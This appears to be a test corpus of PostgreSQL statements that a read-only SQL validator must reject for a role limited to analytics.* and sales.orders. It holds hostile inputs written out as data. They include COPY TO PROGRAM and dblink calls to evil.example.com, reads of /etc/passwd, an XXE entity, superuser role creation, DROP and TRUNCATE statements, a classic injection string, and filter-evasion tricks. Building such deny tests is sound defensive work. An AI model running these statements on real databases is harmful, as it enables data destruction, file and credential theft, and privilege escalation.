-- One statement a paragraph. None may be allowed to a role that may select from analytics.* and sales.orders.

DELETE FROM sales.orders

UPDATE sales.orders SET amount = 0

INSERT INTO sales.orders VALUES (1)

MERGE INTO sales.orders o USING analytics.events e ON o.id = e.id WHEN MATCHED THEN DELETE

MERGE INTO sales.orders o USING analytics.events e ON o.id = e.id WHEN NOT MATCHED THEN INSERT VALUES (1)

TRUNCATE sales.orders

WITH x AS (DELETE FROM sales.orders RETURNING *) SELECT * FROM x

WITH x AS (INSERT INTO sales.orders SELECT * FROM analytics.events RETURNING id) SELECT count(*) FROM x

WITH x AS (UPDATE sales.orders SET amount = 1 RETURNING 1) SELECT 1

WITH x AS (MERGE INTO sales.orders o USING analytics.events e ON true WHEN MATCHED THEN DELETE RETURNING o.id) SELECT * FROM x

WITH a AS (WITH b AS (DELETE FROM sales.orders RETURNING 1) SELECT * FROM b) SELECT * FROM a

WITH a AS (SELECT 1), b AS (SELECT 2), c AS (DELETE FROM sales.orders) SELECT 1

DELETE/**/FROM sales.orders

DELETE
	FROM sales.orders

-- a harmless comment
DROP TABLE sales.orders

/* SELECT */ DROP TABLE sales.orders

SELECT 1; DROP TABLE sales.orders

SELECT 1;;DELETE FROM sales.orders

SELECT 1 /* ; */ ; /* */ COMMIT

COMMIT; DROP SCHEMA sales CASCADE

ROLLBACK

BEGIN

START TRANSACTION READ WRITE

SAVEPOINT a

SELECT * INTO sales.copy FROM sales.orders

SELECT * INTO TEMP t FROM sales.orders

SELECT 1 INTO UNLOGGED sales.x

CREATE TABLE sales.copy AS SELECT * FROM sales.orders

CREATE TEMP TABLE t (a int)

CREATE VIEW sales.v AS SELECT * FROM sales.orders

CREATE MATERIALIZED VIEW sales.v AS SELECT 1

REFRESH MATERIALIZED VIEW sales.v

CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM sales.orders'

CREATE RULE r AS ON SELECT TO sales.orders DO INSTEAD NOTHING

CREATE TRIGGER t BEFORE INSERT ON sales.orders EXECUTE FUNCTION f()

CREATE EXTENSION dblink

CREATE ROLE evil SUPERUSER

ALTER ROLE current_user SUPERUSER

ALTER TABLE sales.orders DISABLE ROW LEVEL SECURITY

ALTER SYSTEM SET archive_command = 'touch /tmp/x'

GRANT ALL ON sales.orders TO PUBLIC

REVOKE ALL ON sales.orders FROM PUBLIC

DROP OWNED BY CURRENT_USER

REASSIGN OWNED BY CURRENT_USER TO postgres

COMMENT ON TABLE sales.orders IS 'x'

SECURITY LABEL ON TABLE sales.orders IS 'x'

COPY sales.orders TO STDOUT

COPY sales.orders FROM STDIN

COPY sales.orders TO PROGRAM 'curl http://evil.example.com'

COPY (SELECT * FROM sales.orders) TO '/tmp/x'

COPY (DELETE FROM sales.orders RETURNING *) TO STDOUT

COPY sales.orders FROM PROGRAM 'id'

DO $$ BEGIN DELETE FROM sales.orders; END $$

DO LANGUAGE plpython3u 'import os'

CALL sales.purge()

EXECUTE evil

EXECUTE evil (1, 2)

PREPARE p AS DELETE FROM sales.orders

PREPARE p AS SELECT 1

DEALLOCATE ALL

DECLARE c CURSOR WITH HOLD FOR SELECT * FROM sales.orders

FETCH ALL FROM c

CLOSE c

SET ROLE postgres

SET search_path = evil

SET SESSION AUTHORIZATION DEFAULT

SET LOCAL statement_timeout = 0

RESET ALL

SHOW ALL

SHOW data_directory

DISCARD ALL

SET TRANSACTION READ WRITE

SET CONSTRAINTS ALL DEFERRED

LISTEN channel

NOTIFY channel, 'secret'

UNLISTEN *

LOCK TABLE sales.orders IN ACCESS EXCLUSIVE MODE

LOAD 'evil.so'

VACUUM FULL sales.orders

ANALYZE sales.orders

CLUSTER sales.orders

REINDEX TABLE sales.orders

CHECKPOINT

EXPLAIN ANALYZE DELETE FROM sales.orders

EXPLAIN DELETE FROM sales.orders

EXPLAIN ANALYZE CREATE TABLE sales.x AS SELECT 1

EXPLAIN ANALYZE EXECUTE evil

EXPLAIN ANALYZE DECLARE c CURSOR FOR SELECT 1

EXPLAIN (SETTINGS) SELECT 1

EXPLAIN ANALYZE SELECT * FROM sales.orders

EXPLAIN (ANALYZE, COSTS OFF) SELECT * FROM sales.orders

EXPLAIN (COSTS OFF, ANALYZE false) SELECT * FROM sales.orders

EXPLAIN SELECT * FROM sales.orders WHERE tenant_id = 'other'

EXPLAIN VERBOSE SELECT * FROM sales.orders

EXPLAIN (COSTS) SELECT * FROM sales.orders

EXPLAIN (COSTS OFF, COSTS ON) SELECT * FROM sales.orders

EXPLAIN (COSTS 1) SELECT * FROM sales.orders

EXPLAIN (COSTS OFF, BUFFERS) SELECT * FROM sales.orders

EXPLAIN (COSTS OFF) SELECT * FROM secret.users

EXPLAIN (COSTS OFF) DELETE FROM sales.orders

EXPLAIN (ANALYZE) WITH x AS (DELETE FROM sales.orders RETURNING 1) SELECT * FROM x

IMPORT FOREIGN SCHEMA public FROM SERVER evil INTO sales

CREATE SERVER evil FOREIGN DATA WRAPPER dblink_fdw

CREATE SUBSCRIPTION s CONNECTION 'host=evil.example.com' PUBLICATION p

CREATE PUBLICATION p FOR ALL TABLES

SELECT * FROM sales.orders FOR UPDATE

SELECT * FROM sales.orders FOR SHARE NOWAIT

SELECT * FROM (SELECT * FROM sales.orders FOR KEY SHARE SKIP LOCKED) s

SELECT * FROM orders

SELECT * FROM secret.users

SELECT * FROM public.users

SELECT * FROM sales.customers

SELECT * FROM "sales.orders"

SELECT * FROM "Sales".orders

SELECT * FROM sales."ORDERS"

SELECT * FROM "analytics.x".secrets

SELECT * FROM "analytics.*".secrets

SELECT * FROM postgres.sales.orders

SELECT * FROM U&"s\0065cret".users

SELECT * FROM sales.orders, secret.users

SELECT * FROM sales.orders JOIN secret.users USING (id)

SELECT * FROM sales.orders WHERE id IN (SELECT id FROM secret.users)

SELECT (SELECT password FROM secret.users LIMIT 1)

SELECT * FROM sales.orders ORDER BY (SELECT password FROM secret.users LIMIT 1)

SELECT * FROM sales.orders LIMIT (SELECT length(password) FROM secret.users LIMIT 1)

SELECT * FROM sales.orders OFFSET (SELECT 1 FROM secret.users)

SELECT count(*) FILTER (WHERE EXISTS (SELECT 1 FROM secret.users)) FROM sales.orders

SELECT sum(1) OVER (PARTITION BY (SELECT 1 FROM secret.users)) FROM sales.orders

SELECT sum(1) OVER w FROM sales.orders WINDOW w AS (ORDER BY (SELECT 1 FROM secret.users))

SELECT * FROM sales.orders GROUP BY (SELECT 1 FROM secret.users)

SELECT 1 FROM sales.orders HAVING (SELECT true FROM secret.users)

SELECT DISTINCT ON ((SELECT 1 FROM secret.users)) 1 FROM sales.orders

SELECT CASE WHEN (SELECT true FROM secret.users) THEN 1 END

SELECT ARRAY(SELECT password FROM secret.users)

SELECT 1 UNION SELECT id FROM secret.users

SELECT 1 UNION ALL (SELECT 2 EXCEPT SELECT id FROM secret.users)

VALUES ((SELECT password FROM secret.users LIMIT 1))

TABLE secret.users

SELECT * FROM sales.orders TABLESAMPLE evil (1)

SELECT * FROM sales.orders TABLESAMPLE public.system (1)

SELECT * FROM sales.orders TABLESAMPLE SYSTEM ((SELECT 1 FROM secret.users))

SELECT * FROM LATERAL (SELECT * FROM secret.users) u

SELECT * FROM (VALUES ((SELECT 1 FROM secret.users))) v

WITH orders AS (SELECT 1) SELECT * FROM orders, users

WITH users AS (SELECT * FROM users) SELECT * FROM users

WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a

SELECT * FROM (WITH inner_cte AS (SELECT 1) SELECT * FROM inner_cte) s, inner_cte

(WITH t AS (SELECT 1) SELECT * FROM t) UNION ALL SELECT * FROM t

WITH a AS (SELECT 1) SELECT * FROM secret.a

SELECT * FROM pg_catalog.pg_shadow

SELECT * FROM pg_shadow

SELECT * FROM information_schema.tables

SELECT * FROM pg_toast.pg_toast_1

SELECT * FROM pg_temp.t

SELECT * FROM pg_temp_3.t

SELECT pg_sleep(10)

SELECT pg_catalog.pg_sleep(10)

SELECT * FROM pg_read_file('/etc/passwd')

SELECT * FROM ROWS FROM (pg_read_file('/etc/passwd')) f

SELECT U&"\0070g_read_file"('/etc/passwd')

SELECT U&"!0070g_sleep" UESCAPE '!'(1)

SELECT "pg_read_file"('/etc/passwd')

SELECT PG_READ_FILE('/etc/passwd')

SELECT pg_ls_dir('.'), pg_stat_file('x'), pg_read_binary_file('x')

SELECT lo_import('/etc/passwd')

SELECT lo_export(1, '/tmp/x'), lo_get(1), lo_from_bytea(0, 'x')

SELECT * FROM dblink('host=evil.example.com', 'SELECT 1') AS t(a int)

SELECT dblink_exec('DELETE FROM sales.orders')

SELECT set_config('search_path', 'evil', false)

SELECT current_setting('data_directory')

SELECT nextval('sales.orders_id_seq')

SELECT setval('sales.orders_id_seq', 1)

SELECT currval('sales.orders_id_seq'), lastval()

SELECT table_to_xml('secret.users', true, false, '')

SELECT query_to_xml('SELECT * FROM secret.users', true, false, '')

SELECT query_to_xml_and_xmlschema('DELETE FROM sales.orders', true, false, '')

SELECT schema_to_xml('secret', true, false, ''), database_to_xml(true, false, '')

SELECT cursor_to_xml('c', 1, true, false, '')

SELECT * FROM ts_stat('SELECT body FROM secret.mail')

SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM secret.aliases')

SELECT pg_terminate_backend(1), pg_cancel_backend(1)

SELECT pg_advisory_lock(1)

SELECT pg_notify('channel', 'secret')

SELECT pg_reload_conf(), pg_rotate_logfile(), pg_switch_wal()

SELECT txid_current(), pg_export_snapshot()

SELECT pg_get_viewdef('sales.v'), pg_get_functiondef(1)

SELECT has_table_privilege('secret.users', 'select')

SELECT to_regclass('secret.users')

SELECT 'secret.users'::regclass

SELECT 'secret.users'::pg_catalog.regclass::text

SELECT CAST(ARRAY['secret.users'] AS regclass[])

SELECT regclass 'secret.users'

SELECT regclass('secret.users')

SELECT 'secret.config'::regconfig

SELECT 'secret.words'::regdictionary

SELECT 'secret'::regnamespace

SELECT 'secret.users'::regtype

SELECT 'C'::regcollation

SELECT JSON_VALUE('"secret.users"', '$' RETURNING regclass)

SELECT * FROM json_to_record('{"a": "secret.users"}') AS r(a regclass)

SELECT pg_typeof(1) = 'secret.users'

SELECT COALESCE(pg_typeof(1), 'secret.users')

SELECT to_tsvector('secret.config', 'text')

SELECT pg_catalog.to_tsvector('pg_catalog.secret', 'text')

SELECT to_tsquery('English', 'a')

SELECT plainto_tsquery(NULL, 'a')

SELECT phraseto_tsquery($1, 'a')

SELECT websearch_to_tsquery(note, 'a') FROM sales.orders

SELECT ts_headline('secret.config', 'text', to_tsquery('a'))

SELECT ts_headline('secret.config', note, to_tsquery('a'), 'MaxWords=5') FROM sales.orders

SELECT CAST('pg_sleep' AS regproc)

SELECT 1::oid::regrole

SELECT version(), current_database(), inet_server_addr()

SELECT CURRENT_USER, SESSION_USER, CURRENT_CATALOG, CURRENT_SCHEMA

SELECT pg_typeof(pg_sleep(1))

SELECT evil(1)

SELECT public.lower('x')

SELECT evil.count(*) FROM sales.orders

SELECT sum(evil(amount)) FROM sales.orders

SELECT coalesce(NULL, pg_sleep(1)::text)

SELECT * FROM sales.orders WHERE pg_sleep(1) IS NULL

SELECT * FROM sales.orders ORDER BY pg_sleep(1)

SELECT * FROM sales.orders GROUP BY evil(id)

SELECT count(*) FILTER (WHERE evil(id)) FROM sales.orders

SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY evil(amount)) FROM sales.orders

SELECT lower(x => evil(1))

SELECT ARRAY[evil(1)], ROW(evil(2)), (ARRAY[1])[evil(1)], (evil(1)).field

SELECT CASE WHEN evil(1) THEN 1 ELSE evil(2) END

SELECT string_agg(name, evil(1) ORDER BY evil(2)) FROM analytics.customers

SELECT JSON_VALUE('{}', '$.a' DEFAULT evil() ON EMPTY)

SELECT JSON_OBJECT('a': evil(1)), JSON_ARRAY(SELECT password FROM secret.users)

SELECT JSON_EXISTS('{}', '$ ? (@ > $x)' PASSING evil(1) AS x)

SELECT * FROM JSON_TABLE(evil(1), '$' COLUMNS (a text PATH '$.a'))

SELECT * FROM JSON_TABLE('{}', '$' COLUMNS (a evil PATH '$.a'))

SELECT JSON_SERIALIZE('{}' RETURNING evil)

SELECT JSON_OBJECTAGG(id: evil(id)) FROM sales.orders

SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS b text PATH '.')

SELECT xmlparse(DOCUMENT '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')

SELECT xmlelement(name a, (SELECT password FROM secret.users))

SELECT xpath('/a', '<a/>'::xml)

SELECT xmlserialize(CONTENT x AS text) FROM sales.orders

SELECT 1 OPERATOR(public.@@@) 2

SELECT 1 @@@ 2

SELECT 1 <=> 2

SELECT * FROM sales.orders ORDER BY id USING OPERATOR(public.<)

SELECT 1 OPERATOR(public.=) ANY (ARRAY[1])

SELECT 1 OPERATOR(public.=) ANY (SELECT 1)

SELECT 'x'::evil

SELECT 'x'::public.text

SELECT CAST(1 AS sales.money_domain)

SELECT NULL::sales.orders

SELECT evil '1'

SELECT * FROM jsonb_to_recordset('[]') AS x(a evil)

SELECT * FROM json_populate_record(NULL::secret.users, '{}')

SELECT 'x' COLLATE public.evil

SELECT * FROM sales.orders WHERE CURRENT OF c

DELETE FROM sales.orders WHERE CURRENT OF c

WITH RECURSIVE t AS (SELECT 1 UNION ALL SELECT pg_sleep(1)::text::int FROM t) SELECT * FROM t

WITH RECURSIVE t(a) AS (SELECT 1) CYCLE a SET c TO evil(1) DEFAULT 0 USING p SELECT * FROM t

SELECT sum(1) OVER (ROWS BETWEEN evil(1) PRECEDING AND CURRENT ROW) FROM sales.orders

SELECT * FROM sales.orders LEFT JOIN analytics.events ON evil(1)

SELECT * FROM sales.orders FETCH FIRST (evil(1)) ROWS ONLY

SELECT * FROM generate_series(1, (SELECT count(*) FROM secret.users))

SELECT crosstab('SELECT * FROM secret.users')

SELECT currval(pg_get_serial_sequence('sales.orders', 'id'))

SELECT * FROM pg_ls_logdir()

SELECT pg_logical_emit_message(true, 'a', 'b')

SELECT pg_create_logical_replication_slot('a', 'b')

SELECT pg_stat_reset()

SELECT binary_upgrade_create_empty_extension('a', 'b', true, 'c', '{}', '{}', '{}')

SELECT pg_collation_for('x'), COLLATION FOR ('x')

SELECT system_user

'; DROP TABLE sales.orders; --

SELECT /* nested /* comment */ */ 1; DELETE FROM sales.orders

WITH RECURSIVE t(a) AS (SELECT 1 UNION ALL SELECT a FROM t) CYCLE a SET c TO 'y' DEFAULT 'n'::evil USING p SELECT * FROM t

;
